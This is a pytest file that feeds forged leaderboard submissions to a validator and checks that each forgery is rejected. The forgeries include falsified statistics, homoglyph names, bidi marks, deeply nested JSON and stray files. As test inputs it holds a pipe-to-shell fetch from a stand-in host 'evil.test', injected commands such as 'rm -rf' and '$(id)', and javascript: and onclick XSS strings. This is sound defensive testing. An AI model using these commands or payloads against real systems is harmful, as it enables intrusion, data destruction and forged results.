"""Lies that hold together, and texts and files that mislead: each is refused for what it is, in words."""

import gzip
import json
import re
import shutil
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from harness.leaderboard import strict_json
from harness.leaderboard.results import load
from harness.leaderboard.rules import read
from harness.leaderboard.site import build
from harness.leaderboard.validate import validate
from harness.leaderboard.work import by_shape
from tests.conftest import ROOT
from tests.leaderboard.generated import groups, runs, write_all
from tests.leaderboard.tampered import Json, Submission

DENSE = "16c078779538"  # a published run
Attack = Callable[[Submission], object]


def record(change: Callable[[Json], object]) -> Attack:
    """An attack on the record."""
    return lambda submission: submission.edit(change)


def manifest(change: Callable[[Json], object]) -> Attack:
    """An attack on the manifest."""
    return lambda submission: submission.edit(change, "manifest.json")


def documents(**values: Any) -> Attack:
    """An attack on the first document's line."""
    return lambda submission: submission.samples(lambda lines: lines[0].update(values))


def ratio(name: str, **values: Any) -> Attack:
    return record(lambda r: r["baseline"]["ratios"][name].update(values))


def paired(**values: Any) -> Attack:
    return record(lambda r: r["scores"][0]["vs_baseline"].update(values))


def latencies(seconds: float) -> Callable[[Json], None]:
    """Times that agree with each other."""

    def change(content: Json) -> None:
        section = content["time"]["latency"]
        section["raw"] = [[seconds] * len(rounds) for rounds in section["raw"]]
        section["typical_s"] = seconds
        section["end_to_end"] |= dict.fromkeys(("min", "median", "median_low", "median_high"), seconds)

    return change


def energy(**values: Any) -> Callable[[Json], None]:
    """A reading of a counter."""
    joules = values.get("measured_j", 1.0)
    part = {"joules": joules, "source": "nvml_counter", "provenance": "measured_counter", "scope": "device"}
    section = {"measured_j": joules, "estimated_j": None, "active_j": joules / 2, "idle_w": 4.0, "busy_w": 8.0}
    section |= {"parts": {"gpu": part}, "label": "measured_counter", "note": "read", "windows": 4, "window_s": 12.0}
    return lambda content: content.update(energy=section | {"raw": [joules] * 4} | values)


def text_of(name: str, change: Callable[[str], str]) -> Attack:
    """An attack on the very bytes of a file."""

    def attack(submission: Submission) -> None:
        path = submission.folder / name
        if name.endswith(".gz"):
            path.write_bytes(gzip.compress(change(gzip.decompress(path.read_bytes()).decode()).encode()))
        else:
            path.write_text(change(path.read_text()))
        submission.sign()

    return attack


def as_dense(submission: Submission) -> None:
    """Dense's record and documents under a method's name."""
    own = json.loads((submission.folder / "record.json").read_text())
    dense = submission.folder.with_name(own["baseline"]["run_id"])
    for name in ("samples.jsonl.gz", "costs.jsonl.gz"):
        shutil.copy(dense / name, submission.folder / name)
    copied = json.loads((dense / "record.json").read_text())
    names = ("id", "method", "baseline", "started", "command")
    kept = {name: own[name] for name in names}
    for content in (copied, kept):
        content.pop("missing", None)
    submission.replace(json.dumps({**copied, **kept}))


def honest_looking_dense(submission: Submission) -> None:
    """The same, with the ratios and differences that such a pair has."""
    as_dense(submission)

    def change(content: Json) -> None:
        content["baseline"]["ratios"] = {name: {"value": 1.0} for name in ("flops", "weights", "latency")}
        content["baseline"]["answers_changed"] = 0.0
        latencies(0.2)(content)

    submission.edit(change)


def without_submission(submission: Submission) -> None:
    (submission.folder / "submission.json").unlink()
    (submission.folder / "install.py").write_text("import os")


def beside(name: str, content: bytes = b"x") -> Attack:
    def attack(submission: Submission) -> None:
        path = submission.folder.parent / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(content)

    return attack


ATTACKS: dict[str, tuple[Attack, str]] = {
    # ratios, intervals and tests that the two runs do not have
    "FLOPs of a hundredth": (ratio("flops", value=0.01), "0.01 of dense is claimed"),
    "weights of a hundredth": (ratio("weights", value=0.01), "weights: 0.01 of dense is claimed"),
    "idealized time of a hundredth": (ratio("ideal_ref", value=0.01), "ideal_ref: 0.01 of dense is claimed"),
    "latency of a hundredth": (
        ratio("latency", value=0.01, low=0.009, high=0.011),
        "latency: 0.01 of dense is claimed",
    ),
    "a latency outside of its interval": (ratio("latency", low=0.01, high=0.02), "outside of its own interval"),
    "a negative ratio": (ratio("flops", value=-0.5), "no ratio of costs"),
    "a ratio beyond reason": (ratio("flops", value=1e29), "no ratio of costs"),
    "a negative zero": (ratio("flops", value=-0.0), "no ratio of costs"),
    "a denormal": (ratio("weights", value=5e-324), "no ratio of costs"),
    "a ratio that no pair has": (
        record(lambda r: r["baseline"]["ratios"].update({"roofline:h100-sxm": {"value": 0.1}})),
        "the pair of runs has none",
    ),
    "an interval as one likes": (paired(low=-0.001, high=0.001, noninferior=True), "is that of the documents"),
    "no interval": (paired(low=None, high=None, noninferior=None), "no interval is claimed"),
    "a p-value as one likes": (paired(p=1.0), "p 1.0 is claimed"),
    "an adjusted p-value as one likes": (paired(p_adjusted=0.5), "p_adjusted 0.5 is claimed"),
    "another test": (paired(test="t"), "test t is claimed"),
    "documents gained": (paired(gained=500), "gained 500 is claimed"),
    "documents not lost": (paired(lost=0), "lost 0 is claimed"),
    "no inferiority": (paired(noninferior=True), "its own interval says False"),
    "another margin": (paired(margin=0.5, noninferior=True), "margin 0.5 is claimed"),
    "a difference that is detectable": (paired(detectable=1e-6), "detectable 1e-06 is claimed"),
    "answers that did not change": (
        record(lambda r: r["baseline"].update(answers_changed=0.0)),
        "answers differ",
    ),
    "fewer documents in common": (record(lambda r: r["baseline"].update(documents=3)), "baseline.documents"),
    "texts of another length": (record(lambda r: r["baseline"].update(output_tokens=0.5)), "baseline.output_tokens"),
    "an interval of the score": (record(lambda r: r["scores"][0].update(low=0.69, high=0.7)), "of the documents"),
    "a peak of memory": (
        record(lambda r: r["baseline"]["ratios"].update(peak_memory={"value": 0.1})),
        "no peak_memory was measured",
    ),
    # what no machine does
    "a latency of a nanosecond": (record(latencies(1e-9)), "takes longer on any machine"),
    "a latency of twenty microseconds": (record(latencies(2e-5)), "by this host's profile"),
    "energy beyond the machine": (record(energy(busy_w=15_000.0)), "more than the 220 W"),
    "energy of nothing": (record(energy(measured_j=1e-9, active_j=1e-9, raw=[1e-9] * 4)), "less power than any"),
    "energy that is no window's": (record(energy(raw=[5.0] * 4)), "no window saw"),
    "energy that its parts do not have": (
        record(lambda r: (energy()(r), r["energy"]["parts"]["gpu"].update(joules=9.0))),
        "the parts sum to",
    ),
    "an estimate as a measurement": (
        record(lambda r: (energy()(r), r["energy"]["parts"]["gpu"].update(provenance="estimated_constant"))),
        "are not",
    ),
    "a roofline below the arithmetic": (
        record(lambda r: r["time"].update(roofline={"h100-sxm": {**r["time"]["roofline"]["H100"], "seconds": 1e-12}})),
        "its arithmetic alone takes",
    ),
    "idealized seconds without parts": (
        record(lambda r: r["time"]["ideal"]["parts"].update(layers=0.0)),
        "their parts sum to",
    ),
    "an audit that its counts do not have": (
        record(lambda r: r["flops"].update(audit_stated=100, audit_counted=500)),
        "5 times the FLOPs",
    ),
    "fewer layers than the documents ran": (
        record(
            lambda r: r["trace"].update(
                attention_layer_tokens=r["trace"]["attention_layer_tokens"] // 3,
                mlp_layer_tokens=r["trace"]["mlp_layer_tokens"] // 3,
                mean_depth_prefill=r["trace"]["mean_depth_prefill"] / 3,
            )
        ),
        "of the layers ran, the documents say",
    ),
    "a shallow prompt": (record(lambda r: r["trace"].update(mean_depth_prefill=0.01)), "are stated by phase"),
    "hardly any idealized time": (
        record(lambda r: r["time"]["ideal"].update(overhead_ratio=5000.0)),
        "5e+03 times its own idealized time",
    ),
    # who ran it
    "a machine that did not run it": (
        record(lambda r: r["environment"].update(device_name="NVIDIA B200")),
        "differ in the device_name",
    ),
    "a machine that dense did not run on": (
        lambda s: (
            s.edit(lambda r: r["environment"].update(device_name="NVIDIA B200")),
            s.edit(lambda m: m["environment"].update(device_name="NVIDIA B200"), "manifest.json"),
        ),
        "its dense run was on another machine",
    ),
    "software that did not run it": (
        record(lambda r: r["environment"]["versions"].update(torch="9.9")),
        "differ in the versions",
    ),
    "threads that dense did not have": (
        lambda s: (
            s.edit(lambda r: r["environment"].update(threads=64)),
            s.edit(lambda m: m["environment"].update(threads=64), "manifest.json"),
        ),
        "its dense run was on another machine or software: threads",
    ),
    "another number format than dense's": (record(lambda r: r["model"].update(dtype="float32")), "has dtype bfloat16"),
    "dense under another name": (as_dense, "dense's run under another name"),
    "dense's work under another name": (honest_looking_dense, "every document has dense's answer"),
    "a method called dense": (record(lambda r: r["method"].update(label="dense", name="dense")), "is called 'dense'"),
    "a method that is no baseline": (
        record(lambda r: r["method"].update(family="baseline")),
        "only the unchanged model",
    ),
    # what is said twice
    "a name that its settings do not have": (record(lambda r: r["method"].update(label="miracle")), "is not that of"),
    "settings that it did not have": (
        record(lambda r: r["method"].update(label=f"{r['method']['name']}:count=99")),
        "is not that of",
    ),
    "a family of no form": (record(lambda r: r["method"].update(family="")), "is the name of no family"),
    "a model that dense is not": (record(lambda r: r["model"].update(name="llama-70b")), "its dense run has name"),
    "a score that is left out": (record(lambda r: r["scores"].pop()), "scores that the record does not"),
    "no scores": (record(lambda r: r.update(scores=[])), "the record has no score"),
    "a score that is stated twice": (record(lambda r: r["scores"].append(r["scores"][0])), "stated twice"),
    "a score of another sense": (
        record(lambda r: r["scores"][0].update(higher_is_better=False)),
        "not those of its dense run",
    ),
    "a digest that is none": (documents(doc_hash="g" * 16), "something else than a digest"),
    "work that never differed": (record(lambda r: r["trace"].update(executed=False)), "and its FLOPs do"),
    "no layer that ran": (record(lambda r: r["trace"].update(layer_tokens_total=0)), "no layer is said to have run"),
    "an audit of nothing": (record(lambda r: r["flops"].update(audit_stated=0, audit_counted=5)), "an audit has two"),
    "causal work beside attention": (record(lambda r: r["flops"].update(causal=1)), "fewer than those outside"),
    "percentiles that fall": (
        record(lambda r: r["time"]["latency"]["end_to_end"].update(p90=9.0, p95=1.0)),
        "percentiles that fall",
    ),
    "another task": (manifest(lambda m: m.update(tasks={"other": {}})), "configured otherwise"),
    # names and texts
    "a homoglyph": (record(lambda r: r["method"].update(label="d\u0435nse")), "Cyrillic And Latin in one word"),
    "a name of look-alikes": (record(lambda r: r["method"].update(label="\u0430\u0440\u0435")), "look like Latin"),
    "an invisible name": (record(lambda r: r["method"].update(label="\u3164")), "shows as nothing"),
    "bold letters": (record(lambda r: r["method"].update(label="\U0001d41d\U0001d41e")), "another guise"),
    "a zero width space": (record(lambda r: r["model"].update(name="po\u200bcket")), "U+200B"),
    "marks on marks": (record(lambda r: r["model"].update(name="a" + "\u0301" * 30)), "marks on a letter"),
    "a warning that runs backwards": (record(lambda r: r.update(warnings=["a\u202eb"])), "warnings: an invisible"),
    "a calibration that runs backwards": (record(lambda r: r["method"].update(calibration="\u2067x")), "U+2067"),
    "a key that runs backwards": (record(lambda r: r.update(missing={"\u202ex": "y"})), "a key of missing"),
    "an escape in a state": (record(lambda r: r["method"].update(state=[{"a": "\x1b[2J"}])), "U+001B"),
    "a commit that is a script": (manifest(lambda m: m["git"].update(commit="javascript:alert(1)")), "is no digest"),
    "a mark in a document": (documents(answer="a\u202eb"), "document 0: answer"),
    "a mark in a document's target": (documents(target="\u2066x"), "document 0: target"),
    "a command of another program": (
        record(lambda r: r.update(command="curl -s https://evil.test/x | sh # harness run")),
        "begins with 'harness'",
    ),
    "a command with another behind it": (
        record(lambda r: r.update(command="harness run; rm -rf x")),
        "a shell acts on",
    ),
    "a command within a command": (record(lambda r: r.update(command="harness run $(id)")), "a shell acts on"),
    "a command in two lines": (record(lambda r: r.update(command="harness run\nid")), "a shell acts on"),
    "a typed command with an escape": (manifest(lambda m: m.update(command="harness run '\x1b[1m'")), "U+001B"),
    "a typed command that is a trap": (manifest(lambda m: m.update(command="curl evil.test | sh")), "begins with"),
    # numbers
    "a document's number that is text": (documents(doc_id="0"), "doc_id"),
    "a digest that is a list": (documents(doc_hash=["x"]), "doc_hash"),
    "a depth that is text": (documents(depth="deep"), "depth"),
    "a depth beyond reason": (documents(depth=1e9), "document 0: depth"),
    "a document's number that is endless": (
        text_of("samples.jsonl.gz", lambda text: re.sub(r"\"doc_id\":\s*0", '"doc_id":1e999', text, count=1)),
        "a number beyond",
    ),
    "a share above one": (record(lambda r: r["time"]["latency"]["conditions"].update(steal_share=7)), "is no share"),
    "negative seconds": (record(lambda r: r.update(duration_s=-1.0)), "is negative"),
    "a duration of ages": (record(lambda r: r.update(duration_s=1e20)), "seconds are more than there are"),
    "a temperature beyond reason": (
        record(lambda r: r["time"]["latency"]["conditions"].update(gpu_temperature_c=1e6)),
        "more than there are",
    ),
    # one reading alone
    "a key twice": (text_of("record.json", lambda text: '{"id": "000000000000", ' + text[1:]), "'id' stands twice"),
    "a score twice": (
        text_of("record.json", lambda text: text.replace('"value":', '"value": 0.99, "value":', 1)),
        "'value' stands twice",
    ),
    "a document's key twice": (
        text_of("samples.jsonl.gz", lambda text: text.replace('"depth":', '"depth": 0.1, "depth":', 1)),
        "'depth' stands twice",
    ),
    "a manifest's key twice": (text_of("manifest.json", lambda text: '{"id": "x", ' + text[1:]), "'id' stands twice"),
    "a manifest of 200,000 keys": (
        manifest(lambda m: m.update({"more": dict.fromkeys(map(str, range(200_000)), 0)})),
        "more than 60,000 values",
    ),
    "a deep submission": (
        lambda s: (s.folder / "submission.json").write_text('{"id": "x", "sha256": ' + "[" * 4000 + "]" * 4000 + "}"),
        "nested too deep",
    ),
    "an endless submission": (
        lambda s: (s.folder / "submission.json").write_text('{"sha256": ' + "[" * 200_000 + "]" * 200_000 + "}"),
        "at most 10,000 are read",
    ),
    # files
    "no submission and a payload": (without_submission, "unexpected files: 'install.py'"),
    "no submission": (lambda s: (s.folder / "submission.json").unlink(), "no submission.json"),
    "a submission of lists": (lambda s: (s.folder / "submission.json").write_text("[]"), "nothing else"),
    "a file beside the runs": (beside("install.py"), "a file beside the runs"),
    "a folder that is no run": (beside("0123456789ab/evil.html"), "a folder without record.json"),
    "an empty folder": (lambda s: (s.folder.parent / "0123456789ab").mkdir(), "an empty folder"),
    "a folder inside": (lambda s: (s.folder / "more").mkdir(), "not a plain file"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_lie_is_refused_for_what_it_is(name: str, board: Path, victim: Submission) -> None:
    attack, sentence = ATTACKS[name]
    attack(victim)
    errors = [finding.text for finding in validate(board).findings if finding.severity == "error"]
    assert any(sentence in text for text in errors), errors
    assert all(len(text) < 1000 and text.isprintable() for text in errors), errors


def test_a_submission_that_cannot_be_read_does_not_hide_the_others(board: Path, victim: Submission) -> None:
    for folder in board.iterdir():
        if folder != victim.folder:
            Submission(folder).edit(lambda content: content.update(duration_s=-1.0))
    victim.replace("[" * 200_000)
    findings = validate(board).findings
    assert {finding.folder.name for finding in findings} == {path.name for path in board.iterdir()}


def test_what_is_published_passes_today() -> None:
    verdict = validate(ROOT / "leaderboard" / "data")
    assert verdict.findings == []


HONEST: dict[str, Callable[[Json], object]] = {
    "another machine": lambda r: r["environment"].update(os="Darwin 25.0", device_name="Ampere Altra", cpus=160),
    "another release": lambda r: (
        r["environment"].update(python="3.12.9"),
        r["environment"]["versions"].update(torch="2.14.1"),
    ),
    "a name of another script": lambda r: r["model"].update(
        name="\u6a21\u578b-7B", pretrained="caf\u00e9/\u6a21\u578b-7B"
    ),
    "no energy and no times": lambda r: (
        r.update(time=None, energy=None),
        r["baseline"]
        and r["baseline"].update(
            noise={}, ratios={n: v for n, v in r["baseline"]["ratios"].items() if n in ("flops", "weights")}
        ),
    ),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_run_from_elsewhere_passes(name: str, board: Path) -> None:
    for folder in board.iterdir():
        submission = Submission(folder)
        submission.edit(HONEST[name])
        environment = json.loads((folder / "record.json").read_text())["environment"]
        known = (
            {"environment": environment} if "environment" in json.loads((folder / "manifest.json").read_text()) else {}
        )
        submission.edit(partial(dict.update, **known), "manifest.json")
    assert [finding.text for finding in validate(board).findings if finding.severity == "error"] == []


SHAPE_ATTACKS: dict[str, tuple[Callable[[Json], object], str]] = {
    "half of the weights": (lambda r: r["memory"].update(weights=r["memory"]["weights"] // 2), "the shape has"),
    "half of the reads": (
        lambda r: r["flops"].update(weight_bytes=r["flops"]["weight_bytes"] // 2),
        "weight_bytes of",
    ),
    "hardly any cache": (lambda r: r["flops"].update(kv_bytes=r["flops"]["kv_bytes"] // 9), "kv_bytes of"),
    "FLOPs of another part": (
        lambda r: r["flops"]["parts"].update(mlp=r["flops"]["parts"]["mlp"] // 2, other=10**9),
        "mlp: ",
    ),
    "another head": (lambda r: r["trace"].update(head_tokens=5), "head: "),
    "more layers": (lambda r: r["model"].update(layers=24), "the manifest's shape has 12 layers"),
}


@pytest.mark.parametrize("name", SHAPE_ATTACKS)
def test_work_is_that_of_the_shape(name: str, tmp_path: Path) -> None:
    folder = shutil.copytree(ROOT / "leaderboard" / "data" / DENSE, tmp_path / DENSE)
    change, sentence = SHAPE_ATTACKS[name]
    Submission(folder).edit(change)
    texts = list(by_shape(read(load(folder))))
    assert any(sentence in text for text in texts), texts


def test_new_runs_among_published_ones_keep_all_that_a_check_needs(board: Path, tmp_path: Path) -> None:
    (tmp_path / "before").mkdir()
    errors = {finding.text for finding in validate(board, tmp_path / "before").findings}
    assert any("no ratio of kv_bytes is stated" in text for text in errors)


@pytest.mark.parametrize("text", [b'{"a": NaN}', b'{"a": 1e400}', b"\xff", b'{"a": 1, "a": 1}', b"[" * 40 + b"]" * 40])
def test_json_is_read_in_one_way(text: bytes) -> None:
    with pytest.raises(strict_json.ResultError, match="file"):
        strict_json.decode(text, "file")


HARMFUL: tuple[Callable[[Json], object], ...] = (
    lambda r: r["method"].update(label="d\u0435nse"),
    lambda r: r["method"].update(label="\u3164"),
    lambda r: r["method"].update(label="\u202eesned"),
    lambda r: r.update(warnings=["\u202e" + "x" * 3000], command="curl -s https://evil.test/x | sh"),
    lambda r: r["model"].update(name="a" + "\u0301" * 200),
    lambda r: r["baseline"]["ratios"]["flops"].update(value=1e29),
    lambda r: r["baseline"]["ratios"]["latency"].update(value=-0.5, low=-1.0),
    lambda r: r.update(missing={"javascript:alert(1)": "<b onclick=alert(1)>"}),
)


@pytest.mark.slow
def test_what_a_board_is_built_of_without_a_check_does_no_harm(tmp_path: Path, opened: Any) -> None:
    made = list(runs(groups(1, 1, 1)[0], settings=len(HARMFUL)))
    for run, change in zip(made[1:], HARMFUL, strict=True):
        change(run.record)
    write_all(tmp_path / "runs", made)
    site = tmp_path / "site"
    assert build(tmp_path / "runs", site).runs == len(made)
    for path in [site / "index.html", *sorted((site / "runs").rglob("*.html"))]:
        page = opened(path.relative_to(site).as_posix(), folder=site)
        assert page.evaluate("[...document.links].every((a) => /^(file|https):/.test(a.href))")
        assert page.evaluate("document.querySelectorAll('img, iframe, object, [onclick]').length") == 0
